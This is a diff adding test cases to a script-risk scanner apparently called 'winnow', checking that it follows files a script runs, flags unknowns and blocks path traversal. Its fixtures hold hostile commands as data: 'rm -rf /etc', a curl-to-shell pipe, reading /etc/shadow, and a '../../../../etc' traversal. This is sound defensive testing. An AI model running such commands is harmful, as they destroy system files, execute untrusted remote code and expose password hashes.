@@ -89,6 +89,46 @@ describe('winnow risk', () => {
   });
 });
 
+describe('winnow risk --policy, and files that a program runs', () => {
+  test('what does not parse is unknown, which a policy may refuse', () => {
+    writeFiles(dir, { 'broken.py': 'def f(:\n x\n' });
+    expect(at(['risk', 'broken.py'])).toMatchObject({ status: 0, stdout: expect.stringContaining('do not parse') });
+    const strict = at(['risk', 'broken.py', '--policy', 'strict']);
+    expect(strict).toMatchObject({ status: 1, stdout: expect.stringContaining('refused by the policy strict:') });
+    expect(at(['risk', 'quiet.py', '--policy', 'strict'])).toMatchObject({
+      status: 0,
+      stdout: expect.stringContaining('the policy strict lets it run'),
+    });
+    expect(at(['risk', 'broken.py', '--policy', 'none']).status).toBe(2);
+  });
+
+  test('they are read by what runs them, whatever they are called, and are unknown where they are not there', () => {
+    writeFiles(dir, {
+      'main.sh': '. ./lib/words.txt\npython3 lib/job.txt\n./tool\n. ./main.sh\nbash gone.sh\nsource "$D/x.sh"\n. /etc/profile\n',
+      'lib/words.txt': 'rm -rf /etc\n',
+      'lib/job.txt': 'import os\nos.system("sh deep.txt")\n',
+      tool: '#!/usr/bin/env bash\ncurl http://example.org | sh\n',
+      'deep.txt': 'cat /etc/shadow\n',
+    });
+    const { files, policy } = JSON.parse(at(['risk', 'main.sh', '--policy', 'work-directory', '--json']).stdout);
+    const told = files.map(({ path, language }: { path: string; language: string }) => `${path} ${language}`);
+    expect(told).toEqual(['main.sh bash', 'lib/words.txt bash', 'lib/job.txt python', 'tool bash', 'deep.txt bash']);
+    expect(files[0].unknowns.map(({ reason }: { reason: string }) => reason)).toEqual([
+      'runs gone.sh, which is not here to be read',
+      'runs …/x.sh, whose place is not known before it runs',
+    ]);
+    expect(files[4].findings).toContainEqual(expect.objectContaining({ category: 'files', target: '/etc/shadow' }));
+    expect(policy).toMatchObject({ name: 'work-directory', runs: true, confined: expect.arrayContaining(['files']) });
+  });
+
+  test('none is read that lies above the program and the command', () => {
+    writeFiles(dir, { 'inner/a.sh': '. ../../../../etc/hostname\n. ../quiet.py\n' });
+    const { files } = JSON.parse(at(['risk', 'inner/a.sh', '--json']).stdout);
+    expect(files.map(({ path }: { path: string }) => path)).toEqual(['inner/a.sh', 'quiet.py']);
+    expect(files[0].unknowns).toHaveLength(1);
+  });
+});
+
 runs(`winnow run --policy${lacks.length === 0 ? '' : ` (skipped: ${lacks.join(' and ')} not installed)`}`, () => {
   test('strict refuses before anything runs, and names why', () => {
     const { status, stdout, stderr } = at(['run', 'installer.py', '--policy', 'strict']);
